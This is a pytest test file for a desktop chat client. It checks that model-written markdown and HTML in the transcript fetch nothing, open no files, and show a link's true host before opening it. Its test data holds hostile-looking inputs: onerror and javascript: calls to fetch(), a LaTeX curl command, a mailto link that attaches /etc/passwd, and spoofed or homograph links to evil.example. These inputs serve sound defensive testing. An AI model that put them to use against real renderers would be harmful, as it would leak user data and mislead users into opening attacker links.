"""What a model wrote reaches for nothing, whatever it is and whatever one does with it, until one agreed."""

from __future__ import annotations

import asyncio
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
import qasync
from PySide6.QtCore import QObject, QPoint, Qt, QUrl, Slot
from PySide6.QtGui import QAccessible, QAccessibleInterface, QDesktopServices, QGuiApplication
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QLabel, QPushButton, QToolTip

from ainative_desktop.protocol.messages import Role
from ainative_desktop.ui.transcript.boxes import COPY_CODE
from ainative_desktop.ui.transcript.scene import LINK
from tests.helpers.desktop import Desktop, until
from tests.helpers.transcript import message
from tests.helpers.watching import Watch, watching

STEP = 14  # px between two places of the mouse

#: {http} and {host} are a trap's address, {file} is a file that is watched.
CORPUS = r"""
![inline]({http}/a.png) ![title]({http}/b.png "{http}/c.png") ![]({http}/d.png) ![file](file://{file})
![bare]({file}) ![data](data:image/svg+xml;base64,PHN2Zy8+)
![unc](\\{host}\share\x.png) ![slashes](//{host}/x.png)
[![nested]({http}/e.png)]({http}/f) ![reference][trap] [text][trap] <{http}/auto> {http}/bare www.{host}

[trap]: {http}/reference.png "{http}/title.png"
[other]: <file://{file}>

Footnote[^1] and[^2].

[^1]: ![note]({http}/note.png) <img src="{http}/note2.png">
[^2]: {http}/note3

<img src="{http}/img.png" srcset="{http}/img2.png 2x" onerror="fetch('{http}/x')"> <img src="file://{file}">
<img src="//{host}/unc.png"> <img src='\\{host}\share\x.png'> <image src="{http}/i.png">

<script src="{http}/s.js"></script><link rel="stylesheet" href="{http}/l.css">
<link rel="prefetch" href="{http}/p">
<style>@import "{http}/import.css"; body {{ background: url({http}/css.png) }}
* {{ border-image: url(file://{file}) }}</style>
<iframe src="{http}/frame"></iframe><object data="{http}/o.svg"></object><embed src="{http}/e.svg">
<base href="{http}/"><meta http-equiv="refresh" content="0;url={http}/refresh">
<svg xmlns="http://www.w3.org/2000/svg"><image href="{http}/svg.png"/><use href="{http}/u.svg#x"/></svg>
<video poster="{http}/p.png" src="{http}/v.mp4"></video><audio src="{http}/a.mp3"></audio>
<p style="background-image: url({http}/style.png)">x</p>
<table background="{http}/t.png"><tr><td>x</td></tr></table>
<a href="{http}/ping" ping="{http}/ping2">x</a>
<form action="{http}/form"><input type="image" src="{http}/i"></form>
<ul style="list-style-image: url({http}/li.png)"><li>x</li></ul><body background="{http}/body.png">

| a ![cell]({http}/cell.png) | <img src="{http}/cell2.png"> |
|---|---|
| [x](file://{file}) | `<img src="{http}/cell3.png">` ![y](//{host}/cell4.png) |

```html
<img src="{http}/code.png"><script src="{http}/code.js"></script>
```

```"><img src="{http}/info.png">
x
```

```{http}/language.css
url({http}/fence.png)
```

    <img src="{http}/indented.png">

> ![quoted]({http}/quoted.png) <img src="{http}/quoted2.png">

- [ ] ![task]({http}/task.png)
- <img src="{http}/item.png">

$\includegraphics{{{http}/g.png}}$ $\href{{{http}/h}}{{x}}$ $\input{{{file}}}$ $\url{{{http}/u}}$ $x^2$

$$\require{{{http}/r.js}} \includegraphics{{{file}}} \write18{{curl {http}/w}}$$

[smb](smb://{host}/share) [msdt](ms-msdt:/id%20PCWDiagnostic) [js](javascript:fetch('{http}/js'))
[vb](vbscript:x)
[file](file://{file}) [data](data:text/html,<img%20src={http}/data.png>) [unc](\\\\{host}\share)
[ftp](ftp://{host}/)
[search](search-ms:query=x&crumb=location:\\{host}\share) [blank]() [qrc](qrc:/x) [about](about:blank)
"""

TRICKS = {
    "[a](https://good.example@evil.example/x)": "evil.example",
    "[a](https://good.example%2F@evil.example)": "evil.example",
    "[a](https://good.example:443@evil.example:8443/)": "evil.example:8443",
    "https://\u0430pple.com": "xn--pple-43d.com",
    r"[a](https://good.example\\@evil.example)": "evil.example",
    "[good.example](https://evil.example)": "evil.example",
    "[https://good.example](https://evil.example)": "evil.example",
    "[\u202egro.elpmaxe](https://evil.example)": "evil.example",
    "![picture](https://evil.example/x.png?stolen)": "evil.example",
    "<mailto:spy@evil.example>": "spy@evil.example",
    "[a](mailto:spy@evil.example?attach=/etc/passwd)": "spy@evil.example",
}  # fmt: skip

REFUSED = [
    r"[a](https:\\\\evil.example)", "[a](//evil.example)",
    "[a](file:///etc/passwd)", "[a](javascript:alert(1))", "[a](smb://evil.example/x)", "[a](ms-msdt:/x)",
    "[a](http://2130706433/)", "[a](tel:123)", "[a](x-custom:y)", "[a](https://evil%2Eexample)",
]  # fmt: skip


class Links(QObject):
    """Takes the place of the browser, as Qt lets one do."""

    def __init__(self) -> None:
        super().__init__()
        self.opened: list[str] = []

    @Slot(QUrl)
    def take(self, url: QUrl) -> None:
        self.opened.append(bytes(url.toEncoded().data()).decode())


@pytest.fixture
def links() -> Iterator[Links]:
    taker = Links()
    for scheme in ("http", "https", "mailto"):
        QDesktopServices.setUrlHandler(scheme, taker, "take")  # type: ignore[arg-type]  # the stub is wrong
    yield taker
    for scheme in ("http", "https", "mailto"):
        QDesktopServices.unsetUrlHandler(scheme)


def show(desktop: Desktop, *texts: str) -> None:
    desktop.model.reset(len(texts), [message(row, Role.ASSISTANT, text) for row, text in enumerate(texts)])


def actions(desktop: Desktop) -> list[str]:
    return [target.hit.action for target in desktop.window.transcript.scene.targets()]


def notice(desktop: Desktop) -> tuple[QLabel, QPushButton]:
    label = desktop.window.findChild(QLabel, "noticeLabel")
    assert label is not None
    parent = label.parentWidget()
    assert parent is not None
    return label, parent.findChildren(QPushButton)[0]


def test_nothing_is_reached_for(qloop: qasync.QEventLoop, tmp_path: Path, links: Links) -> None:
    """Shown, scrolled, pointed at, read aloud, searched, selected, copied, focused: no connection, no name
    looked up, no file opened, in this process or in the one that draws formulas."""

    async def main(watch: Watch) -> None:
        host = f"127.0.0.1:{watch.port}"
        text = CORPUS.format(http=f"http://{host}", host=host, file=watch.file)
        desktop = await Desktop.start(tmp_path / "home")
        await until(lambda: desktop.app.process.endpoint is not None, "the local server listens")
        show(desktop, text, f'<img src="http://{host}/title.png">' * 3)
        view = desktop.window.transcript
        artist = desktop.app._artist
        await until(lambda: any(artist._drawings.values()), "a formula is drawn")
        await until(lambda: not artist._waiting, "and none is left to draw")
        bar = view.verticalScrollBar()
        for place in range(0, bar.maximum() + 1, 150):
            bar.setValue(place)
            await _point_everywhere(desktop)
            assert _told(QAccessible.queryAccessibleInterface(view))
            view.grab()
        desktop.window.header.set_title(f'<img src="http://{host}/title.png">')
        desktop.window.notice(f'<img src="http://{host}/notice.png"><img src="file://{watch.file}">')
        view.selectAll()
        view.copy()
        await until(lambda: "inline" in QGuiApplication.clipboard().text(), "copied")
        _harmless(QGuiApplication.clipboard().mimeData().html())
        await asyncio.sleep(0.2)  # for whatever would be fetched late
        assert links.opened == []
        assert watch.caught() == []
        await desktop.close()

    with watching(tmp_path) as watch:
        qloop.run_until_complete(main(watch))


def test_the_trap_is_one(tmp_path: Path) -> None:
    """Whoever does reach for it is caught: else the test above could not fail."""
    import socket

    from PySide6.QtGui import QImage

    with watching(tmp_path) as watch:
        assert watch.caught() == []
        with socket.create_connection(("127.0.0.1", watch.port)):
            caught = watch.caught()
        assert any("socket.connect" in what for what in caught)
        assert any("a connection from" in what for what in caught)
        assert any("an internet socket" in what for what in caught)
        QImage(str(watch.file))
        assert "the file was opened" in watch.caught()


async def _point_everywhere(desktop: Desktop) -> None:
    """Hover over every line, with what that shows."""
    viewport = desktop.window.transcript.viewport()
    for y in range(2, viewport.height(), STEP):
        for x in range(viewport.width() // 4, viewport.width() * 3 // 4, 60):
            QTest.mouseMove(viewport, QPoint(x, y))
            tip = viewport.toolTip()
            assert "<" not in tip or tip.startswith("<p>")
            if tip:
                QToolTip.showText(viewport.mapToGlobal(QPoint(x, y)), tip, viewport)
    QToolTip.hideText()
    await asyncio.sleep(0)


def _told(node: QAccessibleInterface | None) -> int:
    """Ask for all that is told of an object and those in it; how many there are."""
    assert node is not None
    for kind in QAccessible.Text:
        node.text(kind)
    children = [node.child(number) for number in range(node.childCount())]
    return 1 + sum(_told(child) for child in children if child is not None)


class _References(HTMLParser):
    """Collects what a program that takes the clipboard's rich text would load."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attributes:
            if name == "href" and re.match(r"https?://|mailto:", value or ""):
                continue
            if name in ("src", "href", "background", "data", "poster", "srcset") or "url(" in (value or ""):
                self.found.append(f"{tag} {name}={value}")


def _harmless(html: str) -> None:
    references = _References()
    references.feed(html)
    assert references.found == []
    assert "p" in references.tags
    loading = {"img", "script", "link", "style", "iframe", "object", "embed", "base", "meta", "svg", "image"}
    assert not references.tags & loading


def test_pieces_are_copied_without_references(qloop: qasync.QEventLoop, tmp_path: Path) -> None:
    """Also a drawn formula, which is a picture on screen."""

    async def main() -> None:
        desktop = await Desktop.start(tmp_path)
        show(
            desktop,
            "Some ![x](http://127.0.0.1:9/x.png) words and $x^2$ here\n\n![y](file:///etc/hostname) end",
        )
        view = desktop.window.transcript
        artist = desktop.app._artist
        await until(lambda: any(artist._drawings.values()), "the formula is drawn")
        await until(lambda: not artist._telling.isActive(), "and stands in its paragraph")
        for part in (0, 1):
            placed = next(each for each in view.flow.placed if each.part == part)
            at = QPoint(view.scene.column.left() + 40, placed.y + placed.height // 2)
            QTest.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=at)
            QTest.mouseDClick(view.viewport(), Qt.MouseButton.LeftButton, pos=at)
            QTest.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=at)
            view.copy()
            _harmless(QGuiApplication.clipboard().mimeData().html())
        await desktop.close()

    qloop.run_until_complete(main())


@pytest.mark.parametrize("by", ["mouse", "keyboard", "accessibility"])
def test_links_open_after_their_real_host_was_shown(
    qloop: qasync.QEventLoop, tmp_path: Path, links: Links, by: str
) -> None:
    """However one gets to them; what is opened has the host that was shown."""

    async def main() -> None:
        desktop = await Desktop.start(tmp_path)
        for text, host in TRICKS.items():
            show(desktop, text)
            await asyncio.sleep(0.02)  # what is told to assistive technology is gathered once a turn
            label, button = notice(desktop)
            assert not label.isVisible()
            _activate(desktop, by)
            await until(label.isVisible, text)
            assert label.text().endswith(f" {host}"), text
            assert label.text().isascii()
            assert links.opened == []
            button.click()
            [opened] = links.opened
            assert re.match(rf"(https://|mailto:){re.escape(host)}(/|\?|$)", opened), opened
            assert "attach" not in opened
            links.opened.clear()
        await desktop.close()

    qloop.run_until_complete(main())


def _activate(desktop: Desktop, by: str) -> None:
    view = desktop.window.transcript
    target = next(target for target in view.scene.targets() if target.hit.action == LINK)
    if by == "mouse":
        at = view.scene.rect_of(target).center().toPoint()
        QTest.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=at)
    elif by == "keyboard":
        view.setFocus(Qt.FocusReason.TabFocusReason)
        view._targets.focus(target)
        QTest.keyClick(view, Qt.Key.Key_Return)
    else:
        assert _press(QAccessible.queryAccessibleInterface(view))


def _press(node: QAccessibleInterface | None) -> bool:
    assert node is not None
    if node.role() == QAccessible.Role.Link:
        action = node.actionInterface()
        action.doAction(action.actionNames()[0])
        return True
    return any(_press(node.child(number)) for number in range(node.childCount()))


def test_other_links_are_text(qloop: qasync.QEventLoop, tmp_path: Path) -> None:
    """Nothing to point at, to reach with Tab, or to press."""

    async def main() -> None:
        desktop = await Desktop.start(tmp_path)
        for text in REFUSED:
            show(desktop, f"{text} and\n\n```x\ncode\n```")
            assert COPY_CODE in actions(desktop)
            assert LINK not in actions(desktop), text
        desktop.window.transcript.link_activated.emit("file:///etc/passwd")
        assert not notice(desktop)[0].isVisible()
        await desktop.close()

    qloop.run_until_complete(main())
